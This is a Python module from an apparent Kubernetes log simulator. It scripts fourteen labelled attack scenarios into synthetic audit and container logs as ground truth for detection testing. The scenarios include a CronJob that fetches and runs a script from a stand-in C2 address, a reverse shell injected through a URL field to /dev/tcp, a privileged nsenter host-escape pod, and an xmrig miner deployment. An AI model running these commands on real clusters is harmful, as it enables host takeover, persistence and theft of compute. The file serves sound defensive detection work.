"""Scripted attack scenarios at known times, and their ground truth.

Each scenario adds audit events and/or container lines tagged with its id; after the simulator has
numbered every line, the tags become the evidence (``auditIDs`` and sequence ids) in ``truth.jsonl``.
"""

from __future__ import annotations

from dataclasses import asdict, dataclass, field
from typing import Any

import numpy as np

from kubetrail.simulate.audit import AuditRecord, allow, make_event, sa_user
from kubetrail.simulate.cluster import Cluster, add_attack_container, new_uid, pod_suffix
from kubetrail.simulate.timefmt import NS, micro_time

__all__ = ["Attack", "AttackPlan", "Injection", "plan_attacks"]


@dataclass
class Injection:
    """A line an attack puts into a container stream."""

    ts_ns: int
    msg: str
    stderr: bool
    json: bool
    tag: str


@dataclass
class Attack:
    id: str
    name: str
    description: str
    time: str
    node: str
    namespace: str
    pod: str
    user: str
    source_ip: str
    technique: str
    technique_name: str
    layers: list[str]
    audit_ids: list[str] = field(default_factory=list)
    seq_ids: list[str] = field(default_factory=list)
    streams: list[str] = field(default_factory=list)  # streams whose every line is evidence (miner output)

    def to_json(self) -> dict[str, Any]:
        return asdict(self)


@dataclass
class AttackPlan:
    attacks: list[Attack]
    audit: list[AuditRecord]
    container_lines: dict[str, list[Injection]]


BOB = {"username": "bob@example.com", "groups": ["dev-team", "system:authenticated"]}
BOB_IP = "10.20.30.41"
BOB_USER = "bob@example.com"
C2 = "203.0.113.66"
_KUBECTL_OLD = "kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8"
_KUBECTL_NEW = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
_EDIT = allow("RoleBinding", "dev-team-edit", "edit", 'Group "dev-team"')
_ADMIN = allow("ClusterRoleBinding", "dev-team-admin", "admin", 'Group "dev-team"')
_FRACTIONS = (0.08, 0.14, 0.2, 0.27, 0.33, 0.4, 0.47, 0.54, 0.61, 0.68, 0.75, 0.82, 0.88)


def _pod_body(
    name: str, ns: str, uid: str, node: str, spec: dict[str, Any]
) -> tuple[dict[str, Any], dict[str, Any]]:
    req = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}, "spec": spec}
    resp = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "name": name,
            "namespace": ns,
            "uid": uid,
            "resourceVersion": "184467",
            "creationTimestamp": "2026-01-01T12:00:00Z",
        },
        "spec": spec | {"nodeName": node, "serviceAccountName": "default"},
        "status": {"phase": "Pending", "qosClass": "BestEffort"},
    }
    return req, resp


def plan_attacks(cluster: Cluster, t0: int, t1: int, rng: np.random.Generator) -> AttackPlan:
    span = t1 - t0
    at = [t0 + int(f * span) for f in _FRACTIONS]
    plan = AttackPlan([], [], {})
    workers = cluster.workers

    def ev(tag: str, **kw: Any) -> AuditRecord:
        rec = make_event(audit_id=new_uid(rng), **kw)
        rec.tag = tag
        plan.audit.append(rec)
        return rec

    def attack(
        aid: str,
        name: str,
        desc: str,
        t: int,
        technique: str,
        tname: str,
        layers: list[str],
        *,
        node: str = "",
        ns: str = "",
        pod: str = "",
        user: str = BOB_USER,
        ip: str = BOB_IP,
    ) -> Attack:
        a = Attack(aid, name, desc, micro_time(t), node, ns, pod, user, ip, technique, tname, layers)
        plan.attacks.append(a)
        return a

    def line(c_stream: str, t: int, msg: str, tag: str, stderr: bool = False, json: bool = False) -> None:
        plan.container_lines.setdefault(c_stream, []).append(Injection(t, msg, stderr, json, tag))

    # A01: exec into a pod, once as POST (verb create, kubectl < 1.30) and once over WebSocket (verb get).
    orders = cluster.find("shop", "orders")
    t = at[0]
    attack(
        "A01",
        "pod-exec",
        "interactive shell in a pod via kubectl exec (create and get verbs)",
        t,
        "T1609",
        "Container Administration Command",
        ["audit"],
        node=orders.node.name,
        ns="shop",
        pod=orders.pod,
    )
    q = f"?command=sh&container={orders.name}&stdin=true&stdout=true&tty=true"
    for k, (verb, ua) in enumerate((("create", _KUBECTL_OLD), ("get", _KUBECTL_NEW))):
        aid = new_uid(rng)
        for stage, dt in (("ResponseStarted", 0), ("ResponseComplete", 95 * NS)):
            rec = make_event(
                ts_ns=t + k * 40 * NS + dt,
                audit_id=aid,
                verb=verb,
                resource="pods",
                namespace="shop",
                name=orders.pod,
                subresource="exec",
                user=BOB,
                source_ips=[BOB_IP],
                user_agent=ua,
                uri=f"/api/v1/namespaces/shop/pods/{orders.pod}/exec{q}",
                code=101,
                stage=stage,
                annotations=_EDIT,
            )
            rec.tag = "A01"
            plan.audit.append(rec)

    # A02: attach, same two verbs.
    cart = cluster.find("shop", "cart")
    t = at[1]
    attack(
        "A02",
        "pod-attach",
        "kubectl attach to a running container (create and get verbs)",
        t,
        "T1609",
        "Container Administration Command",
        ["audit"],
        node=cart.node.name,
        ns="shop",
        pod=cart.pod,
    )
    for k, (verb, ua) in enumerate((("create", _KUBECTL_OLD), ("get", _KUBECTL_NEW))):
        aid = new_uid(rng)
        for stage, dt in (("ResponseStarted", 0), ("ResponseComplete", 30 * NS)):
            rec = make_event(
                ts_ns=t + k * 20 * NS + dt,
                audit_id=aid,
                verb=verb,
                resource="pods",
                namespace="shop",
                name=cart.pod,
                subresource="attach",
                user=BOB,
                source_ips=[BOB_IP],
                user_agent=ua,
                uri=f"/api/v1/namespaces/shop/pods/{cart.pod}/attach?container=cart&stdin=true&stdout=true",
                code=101,
                stage=stage,
                annotations=_EDIT,
            )
            rec.tag = "A02"
            plan.audit.append(rec)

    # A03: secret enumeration: list at cluster scope, then get in many namespaces.
    t = at[2]
    attack(
        "A03",
        "secret-enumeration",
        "list secrets cluster-wide, then read secrets in many namespaces",
        t,
        "T1552.007",
        "Unsecured Credentials: Container API",
        ["audit"],
    )
    ev(
        "A03",
        ts_ns=t,
        verb="list",
        resource="secrets",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        uri="/api/v1/secrets?limit=500",
        annotations=_ADMIN,
    )
    for k, ns in enumerate(
        ("shop", "payments", "monitoring", "kube-system", "default", "ingress-nginx", "argocd", "logging")
    ):
        code = 403 if ns in ("kube-system", "argocd") else 200
        ev(
            "A03",
            ts_ns=t + (k + 1) * 2 * NS,
            verb="get",
            resource="secrets",
            namespace=ns,
            name=f"{ns}-credentials",
            user=BOB,
            source_ips=[BOB_IP],
            user_agent=_KUBECTL_NEW,
            code=code,
            annotations=_ADMIN
            if code == 200
            else {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""},
            fail_message=(
                f'secrets "{ns}-credentials" is forbidden: User "bob@example.com" '
                f'cannot get resource "secrets" in API group "" in the namespace "{ns}"'
            ),
        )

    # A04: privileged pod with hostPID and the host's / mounted.
    t = at[3]
    node = workers[-1]
    pod = f"debug-tools-{pod_suffix(rng, 5)}"
    attack(
        "A04",
        "privileged-hostpath-pod",
        "pod with privileged, hostPID, hostNetwork and hostPath / mounted",
        t,
        "T1611",
        "Escape to Host",
        ["audit"],
        node=node.name,
        ns="default",
        pod=pod,
    )
    spec = {
        "hostPID": True,
        "hostNetwork": True,
        "containers": [
            {
                "name": "shell",
                "image": "alpine:3.20",
                "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                "securityContext": {"privileged": True},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}],
            }
        ],
        "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
    }
    req, resp = _pod_body(pod, "default", new_uid(rng), node.name, spec)
    ev(
        "A04",
        ts_ns=t,
        verb="create",
        resource="pods",
        namespace="default",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=req,
        response_object=resp,
        annotations=_EDIT | {"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
    )

    # A05: new service account bound to cluster-admin.
    t = at[4]
    attack(
        "A05",
        "cluster-admin-binding",
        "service account created and bound to cluster-admin",
        t,
        "T1098",
        "Account Manipulation",
        ["audit"],
        ns="kube-system",
    )
    sa = {
        "kind": "ServiceAccount",
        "apiVersion": "v1",
        "metadata": {"name": "backup-operator", "namespace": "kube-system"},
    }
    ev(
        "A05",
        ts_ns=t,
        verb="create",
        resource="serviceaccounts",
        namespace="kube-system",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=sa,
        annotations=_ADMIN,
    )
    crb = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "backup-operator-admin"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "backup-operator", "namespace": "kube-system"}],
    }
    ev(
        "A05",
        ts_ns=t + 3 * NS,
        verb="create",
        resource="clusterrolebindings",
        group="rbac.authorization.k8s.io",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=crb,
        response_object=crb | {"metadata": {"name": "backup-operator-admin", "uid": new_uid(rng)}},
        annotations=_ADMIN,
    )

    # A06: anonymous requests allowed beyond the health endpoints.
    t = at[5]
    anon_ip = "198.51.100.23"
    attack(
        "A06",
        "anonymous-access",
        "system:anonymous allowed to read cluster resources",
        t,
        "T1078.001",
        "Valid Accounts: Default Accounts",
        ["audit"],
        user="system:anonymous",
        ip=anon_ip,
        ns="kube-system",
    )
    anon = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
    anon_allow = allow("ClusterRoleBinding", "anonymous-view", "view", 'User "system:anonymous"')
    for k, (verb, res, ns) in enumerate(
        (("list", "pods", ""), ("get", "configmaps", "kube-system"), ("list", "namespaces", ""))
    ):
        ev(
            "A06",
            ts_ns=t + k * NS,
            verb=verb,
            resource=res,
            namespace=ns,
            name="kubeadm-config" if res == "configmaps" else "",
            user=anon,
            source_ips=[anon_ip],
            user_agent="python-requests/2.32.3",
            annotations=anon_allow,
        )

    # A07: a service-account token used from a public IP.
    t = at[6]
    thief_ip = "185.220.101.47"
    cart_sa = sa_user(
        "shop", "cart", "0b9e6a4c-7d21-4f5e-8a3b-2c1d0e9f8a7b", cart.node.name, cart.pod, cart.pod_uid
    )
    attack(
        "A07",
        "stolen-sa-token",
        "the shop/cart service-account token used from a public IP",
        t,
        "T1528",
        "Steal Application Access Token",
        ["audit"],
        user=cart_sa["username"],
        ip=thief_ip,
        ns="shop",
        pod=cart.pod,
        node=cart.node.name,
    )
    sa_allow = allow("RoleBinding", "cart", "cart-config-reader", 'ServiceAccount "cart/shop"')
    for k, (verb, res, ns, code) in enumerate(
        (
            ("get", "configmaps", "shop", 200),
            ("list", "pods", "shop", 403),
            ("list", "secrets", "shop", 403),
            ("list", "namespaces", "", 403),
        )
    ):
        ev(
            "A07",
            ts_ns=t + k * 3 * NS,
            verb=verb,
            resource=res,
            namespace=ns,
            name="cart-config" if verb == "get" else "",
            user=cart_sa,
            source_ips=[thief_ip],
            user_agent="curl/8.5.0",
            code=code,
            annotations=sa_allow
            if code == 200
            else {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""},
        )

    # A08: crypto-miner deployment, and its container's output.
    t = at[7]
    node = workers[0]
    dep = "kube-metrics-agent"
    mpod = f"{dep}-{pod_suffix(rng, 10)}-{pod_suffix(rng, 5)}"
    start_frac = (t + 12 * NS - t0) / span
    miner = add_attack_container(
        cluster, rng, node, "default", mpod, "xmrig", "miner", "xmrig/xmrig:latest", 0.4, start_frac
    )
    a = attack(
        "A08",
        "crypto-miner",
        "deployment running xmrig; container prints pool and share lines",
        t,
        "T1496",
        "Resource Hijacking",
        ["audit", "container"],
        node=node.name,
        ns="default",
        pod=mpod,
    )
    a.streams.append(miner.stream)
    body = {
        "kind": "Deployment",
        "apiVersion": "apps/v1",
        "metadata": {"name": dep, "namespace": "default"},
        "spec": {
            "replicas": 1,
            "template": {
                "spec": {
                    "containers": [
                        {
                            "name": "xmrig",
                            "image": "xmrig/xmrig:latest",
                            "args": [
                                "-o",
                                "stratum+tcp://pool.supportxmr.com:3333",
                                "-u",
                                "44AFFq5kSiGBoZ...",
                                "--donate-level",
                                "0",
                            ],
                            "resources": {"limits": {"cpu": "2"}},
                        }
                    ]
                }
            },
        },
    }
    ev(
        "A08",
        ts_ns=t,
        verb="create",
        resource="deployments",
        group="apps",
        namespace="default",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=body,
        annotations=_EDIT,
    )
    ms = t + 12 * NS
    stamp = f"[{micro_time(ms + 3_000_000)[:-4].replace('T', ' ')}]"
    for k, msg in enumerate(
        (
            " * ABOUT        XMRig/6.22.2 gcc/13.2.1 (built for Linux x86-64, 64 bit)",
            " * POOL #1      stratum+tcp://pool.supportxmr.com:3333 algo auto",
            f"{stamp}  net      use pool pool.supportxmr.com:3333  104.243.33.118",
            f"{stamp}  net      new job from pool.supportxmr.com:3333 diff 120001 algo rx/0 height 3312345",
        )
    ):
        line(miner.stream, ms + k * 1_000_000, msg, "A08")

    # A09: malicious CronJob; A10: malicious DaemonSet.
    t = at[8]
    attack(
        "A09",
        "malicious-cronjob",
        "CronJob in kube-system downloading and running a script",
        t,
        "T1053.007",
        "Scheduled Task/Job: Container Orchestration Job",
        ["audit"],
        ns="kube-system",
    )
    cj = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": "kube-cleanup", "namespace": "kube-system"},
        "spec": {
            "schedule": "*/5 * * * *",
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "containers": [
                                {
                                    "name": "cleanup",
                                    "image": "alpine:3.20",
                                    "command": ["sh", "-c", f"wget -qO- http://{C2}/x.sh | sh"],
                                }
                            ],
                            "restartPolicy": "OnFailure",
                        }
                    }
                }
            },
        },
    }
    ev(
        "A09",
        ts_ns=t,
        verb="create",
        resource="cronjobs",
        group="batch",
        namespace="kube-system",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=cj,
        annotations=_ADMIN,
    )
    t = at[9]
    attack(
        "A10",
        "malicious-daemonset",
        "privileged DaemonSet with host network from an unknown registry",
        t,
        "T1610",
        "Deploy Container",
        ["audit"],
        ns="kube-system",
    )
    ds = {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": "node-cache", "namespace": "kube-system"},
        "spec": {
            "template": {
                "spec": {
                    "hostNetwork": True,
                    "hostPID": True,
                    "containers": [
                        {
                            "name": "cache",
                            "image": f"{C2}:5000/node-cache:1",
                            "securityContext": {"privileged": True},
                        }
                    ],
                }
            }
        },
    }
    ev(
        "A10",
        ts_ns=t,
        verb="create",
        resource="daemonsets",
        group="apps",
        namespace="kube-system",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=ds,
        annotations=_ADMIN,
    )

    # A11: a burst of 401 and 403 from one source; the API server also logs the failed authentications.
    t = at[10]
    burst_ip = "203.0.113.99"
    attack(
        "A11",
        "auth-failure-burst",
        "40 requests failing with 401/403 from one address within 20 s",
        t,
        "T1110",
        "Brute Force",
        ["audit", "controlplane"],
        user="",
        ip=burst_ip,
    )
    apiserver = cluster.find("kube-system", "kube-apiserver")
    for k in range(40):
        tk = t + k * NS // 2
        if k % 3 != 2:
            ev(
                "A11",
                ts_ns=tk,
                verb="list",
                resource="secrets",
                user={},
                source_ips=[burst_ip],
                user_agent="Go-http-client/1.1",
                code=401,
                stage="ResponseStarted",
                uri="/api/v1/secrets",
                fail_message="Authentication failed, attempted: bearer",
            )
            hdr = f"E{_klog_time(tk)}       1 authentication.go:73] "
            line(
                apiserver.stream,
                tk + 100_000,
                hdr + '"Unable to authenticate the request" err="[invalid bearer token, '
                'service account token has been invalidated]"',
                "A11",
                stderr=True,
            )
        else:
            ev(
                "A11",
                ts_ns=tk,
                verb="list",
                resource="secrets",
                namespace="kube-system",
                user={"username": "system:anonymous", "groups": ["system:unauthenticated"]},
                source_ips=[burst_ip],
                user_agent="Go-http-client/1.1",
                code=403,
                annotations={"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""},
                fail_message=(
                    'secrets is forbidden: User "system:anonymous" cannot list '
                    'resource "secrets" in API group "" in the namespace "kube-system"'
                ),
            )

    # A12: kube-system tampering by a non-system user.
    t = at[11]
    attack(
        "A12",
        "kube-system-tampering",
        "patch of the coredns deployment and configmap in kube-system",
        t,
        "T1562.001",
        "Impair Defenses: Disable or Modify Tools",
        ["audit"],
        ns="kube-system",
    )
    ev(
        "A12",
        ts_ns=t,
        verb="patch",
        resource="deployments",
        group="apps",
        namespace="kube-system",
        name="coredns",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        request_object={
            "spec": {
                "template": {
                    "spec": {"containers": [{"name": "coredns", "image": f"{C2}:5000/coredns:1.11.3"}]}
                }
            }
        },
        annotations=_ADMIN,
    )
    ev(
        "A12",
        ts_ns=t + 4 * NS,
        verb="update",
        resource="configmaps",
        namespace="kube-system",
        name="coredns",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        annotations=_ADMIN,
    )

    # A13: deletion of events (covering tracks); A14: reverse shell in an application container.
    t = at[12]
    attack(
        "A13",
        "event-deletion",
        "delete and deletecollection on events",
        t,
        "T1070",
        "Indicator Removal",
        ["audit"],
        ns="shop",
    )
    ev(
        "A13",
        ts_ns=t,
        verb="delete",
        resource="events",
        namespace="default",
        name=f"{pod}.17f3a2b4c5d6e7f8",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        annotations=_EDIT,
    )
    ev(
        "A13",
        ts_ns=t + 2 * NS,
        verb="deletecollection",
        resource="events",
        namespace="shop",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        annotations=_EDIT,
    )
    pay = cluster.find("payments", "payments-api")
    t = t0 + int(0.9 * span)
    attack(
        "A14",
        "reverse-shell",
        "command injection starting bash -i >& /dev/tcp in an application container",
        t,
        "T1059.004",
        "Command and Scripting Interpreter: Unix Shell",
        ["container"],
        node=pay.node.name,
        ns="payments",
        pod=pay.pod,
        user="",
        ip=C2,
    )
    line(
        pay.stream,
        t,
        f'time={micro_time(t)[:-4]}Z level=warning logger=payments.api msg="webhook callback" '
        f"url=\"http://x;bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'\" status=500",
        "A14",
    )
    line(
        pay.stream,
        t + 40_000_000,
        "bash: cannot set terminal process group (1): Inappropriate ioctl for device",
        "A14",
        stderr=True,
    )
    line(pay.stream, t + 41_000_000, "bash: no job control in this shell", "A14", stderr=True)
    return plan


def _klog_time(ts_ns: int) -> str:
    import time as _time

    secs = ts_ns // NS
    return _time.strftime("%m%d %H:%M:%S", _time.gmtime(secs)) + f".{(ts_ns - secs * NS) // 1000:06d}"
